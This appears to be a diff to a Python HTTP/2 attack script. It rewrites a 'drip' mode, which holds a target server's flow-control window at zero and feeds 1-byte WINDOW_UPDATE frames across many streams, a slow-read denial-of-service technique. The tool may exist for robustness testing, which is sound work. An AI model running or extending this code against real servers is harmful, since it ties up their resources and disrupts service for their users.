@@ -160,9 +160,7 @@ def drip():
     """The same, and each stream takes a byte from time to time."""
     yield from zero_window()
     while True:
-        for stream in range(1, 201, 2):
-            yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
-        time.sleep(0.05)
+        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 201, 2))
 
 
 def silence():
@@ -251,6 +249,8 @@ def main():
         if len(batch) >= 65_536 or attack is drip:
             victim.send(batch, attack not in DEAF)
             batch.clear()
+        if attack is drip:
+            victim.drain(0.05)
         if victim.ended or victim.sent >= limit:
             break
     victim.send(batch)
